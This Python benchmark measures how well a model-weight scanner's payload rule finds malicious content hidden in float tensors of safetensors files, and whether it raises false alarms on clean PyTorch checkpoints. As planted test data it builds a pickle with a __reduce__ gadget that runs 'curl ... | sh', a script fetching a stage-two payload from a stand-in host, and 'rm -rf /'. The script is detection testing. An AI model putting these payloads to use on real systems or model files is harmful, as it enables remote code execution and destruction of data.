#!/usr/bin/env python3
"""
Recall and false positives of the weight scan's payload rule (MS-WG001), measured on weights the
real producers make (torch initialisations, torch.save checkpoints, a torch.onnx export) and on
payloads their real producers make (gzip, zipfile, pickle with a __reduce__, /bin/true, a script),
hidden in every stream the scan reads — raw bytes at every offset within an element, the lowest
byte, the low 16 and 24 bits — of float32, bfloat16 and float16 tensors, dense and pruned, at
random elements. Not tuned to: placements are random, nothing here is a test fixture.

Needs Debian's python3-torch (and python3-onnx for the export). `npm run bench:recall`.
"""
import gzip, io, json, os, pickle, random, shutil, struct, subprocess, sys, tempfile, zipfile

import torch

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
BIN = os.path.join(ROOT, 'bin', 'run.cjs')
random.seed(7)
torch.manual_seed(7)


def safetensors(path, tensors):
    hdr, blobs, off = {}, [], 0
    for name, (dt, b, shape) in tensors.items():
        hdr[name] = {'dtype': dt, 'shape': list(shape), 'data_offsets': [off, off + len(b)]}
        blobs.append(b)
        off += len(b)
    h = json.dumps(hdr).encode()
    h += b' ' * ((8 - len(h) % 8) % 8)
    with open(path, 'wb') as f:
        f.write(struct.pack('<Q', len(h)) + h + b''.join(blobs))


class Evil:
    def __reduce__(self):
        return (os.system, ('curl http://x.example/a | sh',))


def payloads():
    zb = io.BytesIO()
    with zipfile.ZipFile(zb, 'w', zipfile.ZIP_DEFLATED) as z:
        z.writestr('payload/run.sh', 'echo pwned\n' * 50)
    return {
        'elf': open('/bin/true', 'rb').read()[:2048],
        'zip': zb.getvalue(),
        'pickle2': pickle.dumps(Evil(), protocol=2),
        'pickle4': pickle.dumps(Evil(), protocol=4),
        'gzip': gzip.compress(b'#!/bin/sh\nrm -rf / --no-preserve-root\n' * 40),
        'script': b'#!/bin/sh\ncurl -s http://evil.example/stage2 | sh\necho done; sleep 1; exit 0\n' * 4,
    }


DTYPES = {'F32': (torch.float32, torch.int32, 4), 'BF16': (torch.bfloat16, torch.int16, 2), 'F16': (torch.float16, torch.int16, 2)}


def weights(kind):
    w = torch.nn.Linear(1024, 512).weight.detach().clone()
    if kind == 'pruned':
        w[w.abs() < 0.01] = 0
    return w


def as_bytes(t, dt):
    f, i, _ = DTYPES[dt]
    return bytearray(t.to(f).view(i).numpy().tobytes())


def scan(path):
    r = subprocess.run(['node', BIN, 'scan', path, '--json'], capture_output=True, text=True)
    if r.returncode not in (0, 1):
        sys.exit(f'modelseal scan {path} exited {r.returncode}: {r.stderr.strip()}')
    return {os.path.basename(f['path']): f for f in json.loads(r.stdout)['files']}


def main():
    tmp = tempfile.mkdtemp(prefix='modelseal-recall-')
    try:
        planted, clean = os.path.join(tmp, 'planted'), os.path.join(tmp, 'real')
        os.makedirs(planted)
        os.makedirs(clean)
        expect = {}
        for dt, (_, _, w) in DTYPES.items():
            for base in ('dense', 'pruned'):
                for k in range(3):
                    name = f'clean-{dt}-{base}-{k}.safetensors'
                    safetensors(os.path.join(planted, name), {'w': (dt, bytes(as_bytes(weights(base), dt)), (512, 1024))})
                    expect[name] = None
                streams = ['raw0', 'raw1', 'b0'] + (['raw2', 'raw3', 'low16', 'low24'] if w == 4 else [])
                for pname, pay in payloads().items():
                    for s in streams:
                        b = as_bytes(weights(base), dt)
                        el = random.randrange(1000, len(b) // w - len(pay) * 4 - 10)
                        if s.startswith('raw'):
                            at = el * w + int(s[3])
                            b[at:at + len(pay)] = pay
                        else:
                            k = {'b0': 1, 'low16': 2, 'low24': 3}[s]
                            for i, byte in enumerate(pay):
                                b[(el + i // k) * w + i % k] = byte
                        name = f'{pname}-{s}-{dt}-{base}.safetensors'
                        safetensors(os.path.join(planted, name), {'w': (dt, bytes(b), (512, 1024))})
                        expect[name] = pname
        # whole checkpoints from the real writers, for false positives
        m = torch.nn.TransformerEncoder(torch.nn.TransformerEncoderLayer(512, 8, 2048, batch_first=True), 6)
        sd = {**m.state_dict(), 'emb.weight': torch.nn.Embedding(32000, 512, padding_idx=0).weight.detach()}
        for name, dt in (('f32', torch.float32), ('f16', torch.float16), ('bf16', torch.bfloat16), ('f64', torch.float64)):
            torch.save({k: v.to(dt) for k, v in sd.items()}, os.path.join(clean, f'transformer-{name}.pt'))
        try:
            torch.onnx.export(m.eval(), torch.randn(1, 16, 512), os.path.join(clean, 'transformer.onnx'), opset_version=17)
        except Exception as e:  # python3-onnx missing: the torch.save checkpoints still count
            print(f'(torch.onnx.export unavailable: {e})')

        got = scan(planted)
        hits = [n for n, p in expect.items() if p and any(x['id'] == 'MS-WG001' for x in got[n].get('findings', []))]
        misses = [n for n, p in expect.items() if p and n not in hits]
        planted_total = sum(1 for p in expect.values() if p)
        noisy = lambda f: [x['id'] for x in f.get('findings', []) if x['severity'] in ('medium', 'high', 'critical')]
        fp = [n for n, p in expect.items() if p is None and noisy(got[n])]
        real = scan(clean)
        real_fp = {n: noisy(f) for n, f in real.items() if noisy(f)}
        print(f'MS-WG001 recall: {len(hits)}/{planted_total} planted payloads '
              f'({len(payloads())} kinds x streams raw at every offset, b0, low16, low24 x F32/BF16/F16 x dense/pruned)')
        for n in misses:
            print(f'  missed: {n}')
        clean_total = sum(1 for p in expect.values() if p is None)
        print(f'false positives (medium or above): {len(fp)}/{clean_total} clean tensors, {len(real_fp)}/{len(real)} real checkpoints '
              f'({", ".join(sorted(real))})')
        for n, ids in {**{n: noisy(got[n]) for n in fp}, **real_fp}.items():
            print(f'  {n}: {", ".join(ids)}')
    finally:
        shutil.rmtree(tmp, ignore_errors=True)


if __name__ == '__main__':
    main()
